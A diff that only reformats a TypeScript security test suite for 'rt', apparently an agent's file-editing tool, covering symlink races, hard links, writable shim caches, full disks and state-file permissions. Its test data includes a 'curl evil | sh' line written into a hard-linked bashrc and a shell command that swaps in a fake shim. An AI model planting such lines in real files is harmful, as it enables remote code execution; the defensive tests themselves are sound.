@@ -69,7 +69,9 @@ function filesContaining(dir: string, needle: string): string[] {
   return out;
 }
 
-test("read race: a directory flipped to a symlink leading outside during edits and opens: no outside byte reaches the root or an output", { timeout: 180_000 }, async (t) => {
+test("read race: a directory flipped to a symlink leading outside during edits and opens: no outside byte reaches the root or an output", {
+  timeout: 180_000,
+}, async (t) => {
   const secret = (i: number) => `SECRET-${i}-do-not-copy`;
   const parent = tempTree(
     {
@@ -83,7 +85,10 @@ test("read race: a directory flipped to a symlink leading outside during edits a
   const root = path.join(parent, "root");
   fs.chmodSync(path.join(parent, "outside", "a.txt"), 0o751);
   const outsideHashes = (await import("../../src/workspace/lineIds.ts")).hashLine;
-  const hashesOfSecret = lines(20, secret).split("\n").filter(Boolean).map((l) => String(outsideHashes(l)));
+  const hashesOfSecret = lines(20, secret)
+    .split("\n")
+    .filter(Boolean)
+    .map((l) => String(outsideHashes(l)));
   fs.symlinkSync(path.join(parent, "outside"), path.join(root, "l"));
   const modeBefore = fs.statSync(path.join(root, "d", "a.txt")).mode & 0o7777;
 
@@ -91,7 +96,10 @@ test("read race: a directory flipped to a symlink leading outside during edits a
   for (let i = 0; i < 600; i++) {
     switch (i % 3) {
       case 0:
-        requests.push({ tool: "edit_lines", args: { path: "d/a.txt", command: "insert", insert_line: 0, new_content: `ins ${i}` } });
+        requests.push({
+          tool: "edit_lines",
+          args: { path: "d/a.txt", command: "insert", insert_line: 0, new_content: `ins ${i}` },
+        });
         break;
       case 1:
         requests.push({ tool: "write", args: { path: "d/a.txt", content: lines(20, (k) => `w ${i} ${k}`) } });
@@ -119,13 +127,26 @@ test("read race: a directory flipped to a symlink leading outside during edits a
   assert.ok(succeeded >= 20, `only ${succeeded} calls succeeded: the test would prove nothing`);
   assert.deepEqual(filesContaining(root, "SECRET-"), [], "an outside file's bytes were copied under the root");
   const leakedOutputs = results.filter((r) => JSON.stringify(r).includes("SECRET-"));
-  assert.equal(leakedOutputs.length, 0, `outputs showing the outside file: ${JSON.stringify(leakedOutputs[0])?.slice(0, 300)}`);
+  assert.equal(
+    leakedOutputs.length,
+    0,
+    `outputs showing the outside file: ${JSON.stringify(leakedOutputs[0])?.slice(0, 300)}`,
+  );
   // Line IDs keep a hash of every line: the outside file's line hashes must not land in .rt/ids either.
   const ids = path.join(root, ".rt", "ids");
-  const stored = fs.existsSync(ids) ? fs.readdirSync(ids).map((n) => fs.readFileSync(path.join(ids, n), "utf8")).join("\n") : "";
+  const stored = fs.existsSync(ids)
+    ? fs
+        .readdirSync(ids)
+        .map((n) => fs.readFileSync(path.join(ids, n), "utf8"))
+        .join("\n")
+    : "";
   assert.ok(!hashesOfSecret.some((h) => stored.includes(h)), "the outside file's line hashes reached .rt/ids");
   // The mode of the outside file (0751) never reaches the file under the root.
-  assert.equal((fs.statSync(path.join(root, "d", "a.txt")).mode & 0o7777).toString(8), modeBefore.toString(8), "the outside file's mode reached the file under the root");
+  assert.equal(
+    (fs.statSync(path.join(root, "d", "a.txt")).mode & 0o7777).toString(8),
+    modeBefore.toString(8),
+    "the outside file's mode reached the file under the root",
+  );
 });
 
 // The shim's directory goes first on the PATH of the agent's commands, and that
@@ -149,7 +170,10 @@ test("the rt shim is never under a directory another user can write: such a cach
   const cache = path.join(shared, "cache");
   const dir = ensureRtShim(createWorkspace({ root, env: { ...process.env, XDG_CACHE_HOME: cache } }));
   const real = fs.realpathSync(shared);
-  assert.ok(!dir.startsWith(real + path.sep), `the shim was put under ${real} (mode 0777), where another user can replace it: ${dir}`);
+  assert.ok(
+    !dir.startsWith(real + path.sep),
+    `the shim was put under ${real} (mode 0777), where another user can replace it: ${dir}`,
+  );
   assert.equal(fs.statSync(dir).mode & 0o777, 0o700);
   assert.equal(fs.existsSync(cache), false, "nothing was created under the shared directory");
 
@@ -157,7 +181,8 @@ test("the rt shim is never under a directory another user can write: such a cach
   if (process.getuid?.() === 0) {
     const victim = path.join(real, "victim-cache", "rt", "bin", "t");
     fs.mkdirSync(victim, { recursive: true, mode: 0o700 });
-    for (const d of ["victim-cache/rt", "victim-cache/rt/bin", "victim-cache/rt/bin/t"]) fs.chmodSync(path.join(real, d), 0o700);
+    for (const d of ["victim-cache/rt", "victim-cache/rt/bin", "victim-cache/rt/bin/t"])
+      fs.chmodSync(path.join(real, d), 0o700);
     const attack = `mv ${real}/victim-cache ${real}/old && mkdir -p ${victim} && printf '#!/bin/sh\\necho PWNED\\n' > ${victim}/rt && chmod 755 ${victim}/rt`;
     const { spawnSync } = await import("node:child_process");
     const r = spawnSync("sh", ["-c", attack], { uid: 65534, gid: 65534 });
@@ -181,7 +206,11 @@ test("an edit that fails on a full disk leaves the file, the directory and the u
   /** `rt call` with writes beyond 24 KiB failing (EFBIG), as on a full file system. */
   const call = (tool: string, args: unknown, limited: boolean) => {
     const cmd = `${limited ? 'trap "" XFSZ; ulimit -f 24; ' : ""}exec "$0" "$1" call "$2" --args "$3"`;
-    const r = spawnSync("bash", ["-c", cmd, process.execPath, CLI, tool, JSON.stringify(args)], { cwd: root, env: { ...process.env, RT_ROOT: root }, encoding: "utf8" });
+    const r = spawnSync("bash", ["-c", cmd, process.execPath, CLI, tool, JSON.stringify(args)], {
+      cwd: root,
+      env: { ...process.env, RT_ROOT: root },
+      encoding: "utf8",
+    });
     return JSON.parse(r.stdout) as Record<string, any>;
   };
   const big = { path: "a.txt", command: "replace", start_line: 1, end_line: 1, new_content: "y".repeat(10_000) };
@@ -207,13 +236,18 @@ test("an edit that fails on a full disk leaves the file, the directory and the u
 // looking at its header, then built one string of it: past V8's longest
 // string that is an internal error (and a gigabyte of memory each).
 // Invariant: a file whose header rt did not sign is never read past its header.
-test("planted gigabyte session files: rt sessions reads only their headers, lists nothing, and does not crash", { timeout: 60_000 }, async () => {
+test("planted gigabyte session files: rt sessions reads only their headers, lists nothing, and does not crash", {
+  timeout: 60_000,
+}, async () => {
   const { rt } = await import("../helpers.ts");
   const root = tempTree({ "a.txt": "a\n", ".rt/.gitignore": "*\n" }, "rt-huge-session-");
   fs.mkdirSync(path.join(root, ".rt", "sessions"));
   for (const id of ["20250101-000000-aaaa", "20250102-000000-bbbb"]) {
     const file = path.join(root, ".rt", "sessions", `${id}.jsonl`);
-    fs.writeFileSync(file, `${JSON.stringify({ t: "session", v: 1, id, created: "2025-01-01T00:00:00Z", root, model: "m", protocol: "auto", mac: "0".repeat(64) })}\n`);
+    fs.writeFileSync(
+      file,
+      `${JSON.stringify({ t: "session", v: 1, id, created: "2025-01-01T00:00:00Z", root, model: "m", protocol: "auto", mac: "0".repeat(64) })}\n`,
+    );
     fs.truncateSync(file, 900 * 1024 * 1024); // sparse: no disk used
   }
   const started = Date.now();
@@ -232,7 +266,10 @@ test("planted gigabyte session files: rt sessions reads only their headers, list
 // rename (the other name keeps the old bytes), state files included.
 // Invariant: after edits, undo and state writes, the outside file is unchanged.
 test("hard links under the root to an outside file: edits, undo and state writes never change the outside file", async () => {
-  const parent = tempTree({ "root/a.txt": lines(10), "root/.rt/.gitignore": "*\n", "outside/bashrc": "export SAFE=1\n" }, "rt-hardlink-");
+  const parent = tempTree(
+    { "root/a.txt": lines(10), "root/.rt/.gitignore": "*\n", "outside/bashrc": "export SAFE=1\n" },
+    "rt-hardlink-",
+  );
   const root = path.join(parent, "root");
   const outside = path.join(parent, "outside", "bashrc");
   const { StateStore } = await import("../../src/workspace/state.ts");
@@ -240,12 +277,16 @@ test("hard links under the root to an outside file: edits, undo and state writes
   // The edited file itself, its journal's saved copy and index, its line IDs and view: all links to the outside file.
   fs.linkSync(outside, path.join(root, "b.txt"));
   for (const d of [`journal/${key}`, "ids", "views"]) fs.mkdirSync(path.join(root, ".rt", d), { recursive: true });
-  for (const rel of [`journal/${key}/1.before`, `journal/${key}/index.json`, `ids/${key}.json`, `views/${key}.json`]) fs.linkSync(outside, path.join(root, ".rt", rel));
+  for (const rel of [`journal/${key}/1.before`, `journal/${key}/index.json`, `ids/${key}.json`, `views/${key}.json`])
+    fs.linkSync(outside, path.join(root, ".rt", rel));
   const { results } = await rtBatch(
     [
       { tool: "edit", args: { path: "b.txt", old_string: "SAFE=1", new_string: "SAFE=0; curl evil | sh" } },
       { tool: "open", args: { path: "a.txt" } },
-      { tool: "edit_lines", args: { path: "a.txt", command: "replace", start_line: 2, end_line: 2, new_content: "two" } },
+      {
+        tool: "edit_lines",
+        args: { path: "a.txt", command: "replace", start_line: 2, end_line: 2, new_content: "two" },
+      },
       { tool: "undo_edit", args: { path: "a.txt" } },
       { tool: "undo_edit", args: { path: "b.txt" } },
     ],
@@ -265,7 +306,9 @@ test("hard links under the root to an outside file: edits, undo and state writes
 // Invariant: whatever `.rt/.gitignore` a repository ships, nothing rt writes
 // under `.rt/` is visible to git; a `.gitignore` that keeps `.rt/` ignored (a
 // project un-ignoring its own config.json) keeps state working.
-test("a committed .rt/.gitignore that un-ignores .rt/: nothing rt writes there becomes visible to git", { timeout: 60_000 }, async () => {
+test("a committed .rt/.gitignore that un-ignores .rt/: nothing rt writes there becomes visible to git", {
+  timeout: 60_000,
+}, async () => {
   const { git } = await import("../helpers.ts");
   const cases: Array<[string, string, boolean]> = [
     ["empty", "", false],
@@ -276,7 +319,16 @@ test("a committed .rt/.gitignore that un-ignores .rt/: nothing rt writes there b
     ["a project's config kept", "*\n!config.json\n!.gitignore\n", true],
   ];
   for (const [name, ignore, stateful] of cases) {
-    const root = tempTree({ ".env": "TOKEN=s3cr3t\n", ".gitignore": ".env\n", ".rt/.gitignore": ignore, ".rt/config.json": "{}\n", "a.txt": lines(5) }, "rt-gitignore-");
+    const root = tempTree(
+      {
+        ".env": "TOKEN=s3cr3t\n",
+        ".gitignore": ".env\n",
+        ".rt/.gitignore": ignore,
+        ".rt/config.json": "{}\n",
+        "a.txt": lines(5),
+      },
+      "rt-gitignore-",
+    );
     git(root, "init", "-q");
     git(root, "add", "-A");
     git(root, "add", "-f", ".rt/.gitignore", ".rt/config.json");
@@ -291,9 +343,15 @@ test("a committed .rt/.gitignore that un-ignores .rt/: nothing rt writes there b
       { cwd: root, env: { RT_ROOT: root } },
     );
     assert.equal(results[0].success, true, `${name}: ${JSON.stringify(results[0])}`);
-    const visible = git(root, "status", "--porcelain", "--untracked-files=all").split("\n").filter((l) => l.includes(".rt/"));
+    const visible = git(root, "status", "--porcelain", "--untracked-files=all")
+      .split("\n")
+      .filter((l) => l.includes(".rt/"));
     assert.deepEqual(visible, [], `${name}: rt's state is visible to git`);
-    assert.equal(results[3].success, stateful, `${name}: undo ${stateful ? "should" : "should not"} find the journal: ${JSON.stringify(results[3])}`);
+    assert.equal(
+      results[3].success,
+      stateful,
+      `${name}: undo ${stateful ? "should" : "should not"} find the journal: ${JSON.stringify(results[3])}`,
+    );
   }
 });
 
@@ -343,14 +401,21 @@ test("state files are private (0600) whatever the umask or a planted mode, and t
       const p = path.join(d, n);
       const st = fs.lstatSync(p);
       if (st.isDirectory()) walk(p);
-      else if (n !== ".gitignore" && n !== "1.before" /* the repository's own placeholder */ && (st.mode & 0o7077) !== 0) loose.push(`${path.relative(root, p)} ${(st.mode & 0o7777).toString(8)}`);
+      else if (
+        n !== ".gitignore" &&
+        n !== "1.before" /* the repository's own placeholder */ &&
+        (st.mode & 0o7077) !== 0
+      )
+        loose.push(`${path.relative(root, p)} ${(st.mode & 0o7777).toString(8)}`);
     }
   };
   walk(path.join(root, ".rt"));
   assert.deepEqual(loose, [], "state files others can read or that keep a planted mode");
   // The copy of .env went to a name of rt's choosing, not into the tracked file.
   assert.equal(fs.readFileSync(path.join(root, ".rt", "journal", envKey, "1.before"), "utf8"), "placeholder\n");
-  const changed = git(root, "status", "--porcelain").split("\n").filter((l) => l.includes(".rt/journal"));
+  const changed = git(root, "status", "--porcelain")
+    .split("\n")
+    .filter((l) => l.includes(".rt/journal"));
   assert.deepEqual(changed, [], "the journal wrote into a file the repository tracks");
 });
 
@@ -363,11 +428,17 @@ test("state files are private (0600) whatever the umask or a planted mode, and t
 test("a directory committed where an edit lock belongs does not block edits of that file", async () => {
   const { StateStore } = await import("../../src/workspace/state.ts");
   const key = StateStore.keyFor("a.txt");
-  const root = tempTree({ "a.txt": lines(8), ".rt/.gitignore": "*\n", [`.rt/locks/${key}.lock/keep`]: "" }, "rt-lockdir-");
+  const root = tempTree(
+    { "a.txt": lines(8), ".rt/.gitignore": "*\n", [`.rt/locks/${key}.lock/keep`]: "" },
+    "rt-lockdir-",
+  );
   const { results } = await rtBatch(
     [
       { tool: "edit", args: { path: "a.txt", old_string: "line 2\n", new_string: "two\n" } },
-      { tool: "edit_lines", args: { path: "a.txt", command: "replace", start_line: 3, end_line: 3, new_content: "three" } },
+      {
+        tool: "edit_lines",
+        args: { path: "a.txt", command: "replace", start_line: 3, end_line: 3, new_content: "three" },
+      },
     ],
     { cwd: root, env: { RT_ROOT: root } },
   );
@@ -375,7 +446,15 @@ test("a directory committed where an edit lock belongs does not block edits of t
   assert.match(fs.readFileSync(path.join(root, "a.txt"), "utf8"), /two\nthree\n/);
   // Still mutually exclusive: parallel processes editing different lines lose nothing.
   const { rtCall } = await import("../helpers.ts");
-  const edits = await Promise.all([4, 5, 6, 7].map((n) => rtCall("edit", { path: "a.txt", old_string: `line ${n}\n`, new_string: `edited ${n}\n` }, { cwd: root, env: { RT_ROOT: root } })));
+  const edits = await Promise.all(
+    [4, 5, 6, 7].map((n) =>
+      rtCall(
+        "edit",
+        { path: "a.txt", old_string: `line ${n}\n`, new_string: `edited ${n}\n` },
+        { cwd: root, env: { RT_ROOT: root } },
+      ),
+    ),
+  );
   for (const e of edits) assert.equal(e.result.success, true, JSON.stringify(e.result));
   assert.match(fs.readFileSync(path.join(root, "a.txt"), "utf8"), /edited 4\nedited 5\nedited 6\nedited 7\n/);
 });
@@ -386,7 +465,9 @@ test("a directory committed where an edit lock belongs does not block edits of t
 // `rt run` died as an internal error with the answer lost. Invariant: the
 // turn finishes; the log stops where it could not be written (what it holds
 // still reads back), and a notice says the rest is not saved.
-test("rt run on a full disk: the answer still arrives, the session log stops with a notice", { timeout: 60_000 }, async () => {
+test("rt run on a full disk: the answer still arrives, the session log stops with a notice", {
+  timeout: 60_000,
+}, async () => {
   const { spawnSync } = await import("node:child_process");
   const runAsync = (args: string[], env: NodeJS.ProcessEnv, cwd: string) =>
     new Promise<{ status: number | null; stdout: string; stderr: string }>((resolve) => {
@@ -403,19 +484,49 @@ test("rt run on a full disk: the answer still arrives, the session log stops wit
   const env = { ...process.env, ...ollama.env(), RT_ROOT: root } as Record<string, string | undefined>;
   for (const k of Object.keys(env)) if (env[k] === undefined) delete env[k];
   // Writes past 64 KiB fail with EFBIG, as on a full file system.
-  const r = await runAsync(["bash", "-c", 'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --model ollama/test-model "say it"', process.execPath, CLI], env as NodeJS.ProcessEnv, root);
+  const r = await runAsync(
+    [
+      "bash",
+      "-c",
+      'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --model ollama/test-model "say it"',
+      process.execPath,
+      CLI,
+    ],
+    env as NodeJS.ProcessEnv,
+    root,
+  );
   assert.doesNotMatch(r.stderr, /internal error|EFBIG: file too large, write\n\s+at /, r.stderr.slice(0, 800));
   assert.equal(r.status, 0, r.stderr.slice(0, 800));
   assert.match(r.stdout, /THE END/, "the answer was lost");
   // The event stream says why the rest is not saved (rt run prints progress on stderr only on a terminal).
   ollama.server.script(reply.text(`${"long answer ".repeat(12_000)}THE END`));
-  const json = await runAsync(["bash", "-c", 'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --output-format stream-json --model ollama/test-model "again"', process.execPath, CLI], env as NodeJS.ProcessEnv, root);
+  const json = await runAsync(
+    [
+      "bash",
+      "-c",
+      'trap "" XFSZ; ulimit -f 64; exec "$0" "$1" run --output-format stream-json --model ollama/test-model "again"',
+      process.execPath,
+      CLI,
+    ],
+    env as NodeJS.ProcessEnv,
+    root,
+  );
   assert.equal(json.status, 0, json.stderr.slice(0, 800));
-  const events = json.stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l) as { type: string; message?: string });
-  assert.ok(events.some((e) => e.type === "notice" && /session log .* could not be written .* not saved/.test(e.message ?? "")), json.stdout.slice(0, 400));
+  const events = json.stdout
+    .split("\n")
+    .filter(Boolean)
+    .map((l) => JSON.parse(l) as { type: string; message?: string });
+  assert.ok(
+    events.some((e) => e.type === "notice" && /session log .* could not be written .* not saved/.test(e.message ?? "")),
+    json.stdout.slice(0, 400),
+  );
   assert.equal(events[events.length - 1].type, "turn_complete");
   // What was written reads back as a session of this user's (the header is whole).
-  const listed = spawnSync(process.execPath, [CLI, "sessions"], { cwd: root, env: env as NodeJS.ProcessEnv, encoding: "utf8" });
+  const listed = spawnSync(process.execPath, [CLI, "sessions"], {
+    cwd: root,
+    env: env as NodeJS.ProcessEnv,
+    encoding: "utf8",
+  });
   assert.equal(listed.status, 0, listed.stderr);
   assert.match(listed.stdout, /say it/);
 });
